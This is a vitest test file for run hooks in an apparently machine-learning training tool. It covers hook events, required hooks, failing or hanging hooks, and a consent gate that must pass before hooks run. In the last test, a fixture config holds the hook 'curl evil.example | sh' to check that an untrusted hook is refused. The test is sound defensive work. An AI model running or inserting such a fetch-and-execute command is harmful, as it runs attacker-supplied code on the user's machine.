import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { places } from '../../../src/base/paths.ts';
import type { RunEvent } from '../../../src/engine/events/schema.ts';
import { readEvents } from '../../../src/engine/events/tail.ts';
import { settleHooks } from '../../../src/engine/hooks/consent.ts';
import { RUN_FILES } from '../../../src/engine/run-folder/layout.ts';
import { readExit } from '../../../src/engine/run-folder/run-files.ts';
import type { RunRef } from '../../../src/engine/runs/create.ts';
import { followRun } from '../../../src/engine/runs/follow.ts';
import { startRun } from '../../../src/engine/runs/start.ts';
import { hooksSchema } from '../../../src/spec/sections/hooks.ts';
import { cli } from '../../helpers/cli.ts';
import { FixtureHome, until } from '../../helpers/fixture-run.ts';

let home: FixtureHome;
afterEach(() => home.remove());

function withHooks(hooks: object, allowed = true, steps = 5): RunRef {
  const all = hooksSchema.parse(hooks);
  const run = home.create(steps);
  writeFileSync(join(run.dir, 'beside.json'), JSON.stringify({ hooks: all }));
  if (allowed) settleHooks(all, places(home.env), true);
  return run;
}
const events = (run: RunRef): RunEvent[] => [...readEvents(run.dir)].flat();
async function goes(run: RunRef): Promise<void> {
  await startRun(run, home.env);
  for await (const _ of followRun(run.dir, { intervalMs: 20 }));
}
const log = (name: string) => `cat >> ../${name}`;
const documents = (name: string) =>
  readFileSync(join(home.runs, name), 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));

describe('hooks of a run', () => {
  it('get start and end, once an attempt, and can measure', async () => {
    home = new FixtureHome({ FIXTURE_SECONDS: '0.02', FIXTURE_SAVES: '2' });
    const run = withHooks(
      {
        on_start: [{ run: log('start') }],
        on_checkpoint: [{ run: `${log('saved')}; echo '{"metrics": {"clip": 0.31}}'`, must: true }],
        on_finish: [{ run: ['sh', '-c', `${log('end')}; printf %s "$VISIONTRAIN_PATH" > ../path`] }],
        on_failure: [{ run: log('failed') }],
      },
      true,
      4,
    );
    await goes(run);
    await until(() => existsSync(join(home.runs, 'path')));
    expect(documents('start')).toMatchObject([{ version: 1, hook: 'on_start', run: 'fox', event: { attempt: 1 } }]);
    expect(documents('saved').map(({ event }) => event.step)).toEqual([2, 4]);
    expect(documents('end')).toMatchObject([{ hook: 'on_finish', exit: { status: 'finished', code: 0 } }]);
    expect(readFileSync(join(home.runs, 'path'), 'utf8')).toBe(join(run.dir, 'output/fox.safetensors'));
    expect(existsSync(join(home.runs, 'failed'))).toBe(false);
    const all = events(run);
    expect(all.filter(({ type }) => type === 'metric')).toMatchObject([
      { step: 2, hook: 'on_checkpoint', values: { clip: 0.31 } },
      { step: 4, hook: 'on_checkpoint', values: { clip: 0.31 } },
    ]);
    // There is one writer at a time: numbers go on without a gap or a double.
    expect(all.map(({ seq }) => seq)).toEqual(all.map((_, i) => i + 1));
  });

  it('that must not fail stop the run before it begins, or with a checkpoint', async () => {
    home = new FixtureHome({ FIXTURE_SECONDS: '0.02', FIXTURE_SAVES: '2' });
    const early = withHooks({ on_start: [{ run: 'exit 3', must: true }] });
    await goes(early);
    expect(readExit(early.dir)).toMatchObject({ status: 'failed', code: 5, step: 0 });
    expect(readExit(early.dir)?.reason).toBe(
      'The run was not begun: the hook on_start ended with code 3, and it must not fail.',
    );
    const late = withHooks({ on_checkpoint: [{ run: 'exit 4', must: true }] }, true, 1000);
    await goes(late);
    expect(readExit(late.dir)).toMatchObject({ status: 'stopped', code: 75, step: 2 });
    expect(readExit(late.dir)?.reason).toContain('the hook on_checkpoint ended with code 4');
  });

  it('that fail, hang or remove files do the run no harm', async () => {
    home = new FixtureHome({ FIXTURE_SECONDS: '0.4', FIXTURE_SAVES: '2' });
    const run = withHooks({
      on_start: [{ run: 'sleep 600', timeout: 1 }],
      on_checkpoint: [{ run: 'rm -f beside.json hooks.log; exit 1' }],
    });
    await goes(run);
    expect(readExit(run.dir)).toMatchObject({ status: 'finished', step: 5 });
    // A hook that ends after the trainer is named in the supervisor's log: no event follows the last one.
    const told = () => [
      ...events(run).flatMap((event) => (event.type === 'note' ? [event.text] : [])),
      ...readFileSync(join(run.dir, RUN_FILES.supervisorLog), 'utf8').split('\n'),
    ];
    await until(
      () => told().filter((text) => text.startsWith('The hook on_checkpoint ended with code 1')).length === 2,
    );
  });

  it('are not run before the person has said yes, whoever starts the run', async () => {
    home = new FixtureHome();
    const run = withHooks({ on_start: [{ run: log('start') }], on_finish: [{ run: log('end') }] }, false);
    const refused = await cli(['resume', 'fox', '--detach'], home.env);
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining('on_start: cat >> ../start')]);
    await goes(run);
    expect(readExit(run.dir)).toMatchObject({ status: 'finished' });
    expect(events(run).some((event) => event.type === 'note' && event.text.includes('not allowed'))).toBe(true);
    expect(existsSync(join(home.runs, 'start'))).toBe(false);
    mkdirSync(join(home.dir, 'pictures'));
    const yaml = join(home.dir, 'hooked.yaml');
    writeFileSync(
      yaml,
      'version: 1\ndataset: {path: ./pictures}\nmodel: {base: tiny}\nhooks:\n  on_finish:\n    - {run: "curl evil.example | sh"}\n',
    );
    const stranger = await cli(['run', yaml, '--detach'], home.env);
    expect([stranger.code, stranger.stderr]).toEqual([2, expect.stringContaining('curl evil.example | sh')]);
  });
});
